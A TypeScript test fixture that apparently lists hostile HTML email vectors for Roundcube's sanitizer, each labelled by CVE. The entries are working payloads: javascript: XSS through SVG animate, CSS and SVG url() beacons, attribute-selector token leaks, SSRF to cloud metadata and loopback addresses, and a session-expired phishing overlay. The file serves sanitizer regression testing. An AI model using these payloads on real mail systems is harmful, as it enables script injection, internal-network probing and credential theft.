import { attribute, type Vector } from "./hostile-vector.ts"

const known = (name: string, html: (outside: string, act: string) => string, closed = true): Vector => ({ name, closed, html: (outside) => html(`${outside}/${name}`, attribute(outside, name)) })

/** The classes of the weaknesses published for Roundcube from 1.7-rc2 to 1.7.3, each by its number. Those of subjects, names, plain text and MIME types stand in `hostile-words`. */
export const knownVectors: readonly Vector[] = [
  known("CVE-2026-25916-svg-content", (outside) => `<svg><feImage href="${outside}"/></svg><svg><image xlink:href="${outside}" width=1 height=1/></svg>`),
  known("CVE-2026-35543-svg-animate", (outside) => `<svg><image><animate attributeName="href" values="${outside};${outside}"/></image></svg>`),
  known("CVE-2026-35542-body-background", (outside) => `<body background="${outside}" style="background:url(${outside})"><p>x</p></body>`),
  known("CVE-2026-35545-funciri", (outside) => `<svg><rect fill="url(${outside}#a)" filter="url(${outside}#b)" stroke="url(${outside}#c)"/></svg><p style="fill:url(${outside});filter:url(${outside});stroke:url(${outside})">x</p>`),
  known("CVE-2026-48846-css-var", (outside) => `<style>:root{--a:url(${outside})}p{background:var(--a)}</style><p style="--b:url(${outside});background:var(--b)">x</p>`),
  known("CVE-2026-48848-animate-style", (outside) => `<svg><rect><animate attributeName="style" values="fill:url(${outside})"/></rect></svg>`),
  known("unclosed-funciri", (outside) => `<svg><rect fill="url(${outside}"/></svg><p style="background:url(${outside}">x</p>`),
  known("svg-animate-by", (outside, act) => `<svg><a><animate attributeName="href" by="javascript:${act}"/><text>x</text></a></svg><svg><image><animate attributeName="href" by="${outside}"/></image></svg>`),
  known("CVE-2026-35544-important-fixed", () => `<style>div{position:fixed!important;inset:0!important;z-index:2147483647!important}</style><div style="position: fixed ! important;top:0;left:0;width:100%;height:100%;background:#fff">Ihre Sitzung ist abgelaufen.</div>`),
  known("CVE-2025-68460-style-leak", (outside) => `<style>input[value^="a"]{background:url(${outside})}a[href*="token"]{list-style:url(${outside})}</style><input value="abc"><a href="https://ok.example/?token=1">x</a>`),
  known("CVE-2026-26079-css-injection", (outside) => `<style>p{color:red;}/*</style><p style="x:y;*/background:url(${outside});/*">x</p>`, false),
  known("CVE-2025-68461-svg-animate-script", (_, act) => `<svg><animate xlink:href="#x" attributeName="href" values="javascript:${act}"/><a id="x"><text>x</text></a></svg>`),
  known("CVE-2026-35540-server-side-fetch", () => `<link rel=stylesheet href="http://169.254.169.254/latest/meta-data/"><style>@import "http://127.0.0.1:27017/";</style>`),
  known("CVE-2026-48843-server-side-fetch-nip", () => `<img src="http://127.0.0.1.nip.io/"><img src="http://100.64.0.1/"><img src="http://[fe80::1]/">`),
  known("CVE-2026-62643-server-side-fetch-redirect", (outside) => `<img src="${outside}/redirect"><img src="http://0x7f.1/"><img src="http://[::ffff:127.0.0.1]/">`),
]
